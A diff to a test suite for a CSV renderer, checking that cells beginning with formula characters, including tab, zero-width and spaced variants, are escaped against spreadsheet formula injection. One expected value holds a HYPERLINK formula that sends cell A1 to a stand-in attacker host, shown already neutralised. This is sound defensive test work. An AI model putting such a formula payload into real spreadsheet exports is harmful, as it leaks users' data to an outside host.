@@ -121,7 +121,9 @@ describe('renderCsv', () => {
       for (const part of line.split(/[,;\t]/)) expect(part.replace(/^"/, '')).not.toMatch(formula);
     const first = rows.find((row) => row[0] === String(entry.number))!;
     expect(first[1]).toBe(`Budget 2018;'=HYPERLINK("https://evil.example/?q="&A1)`);
-    expect(first[6]).toBe("'\tTab Org; '\u200b@Zero Width Org;  '+Spaced Org");
+    expect(first[rows[0].indexOf('sponsors')]).toBe(
+      "'\tTab Org; '\u200b@Zero Width Org;  '+Spaced Org",
+    );
   });
 
   it('quotes as RFC 4180 says', () => {
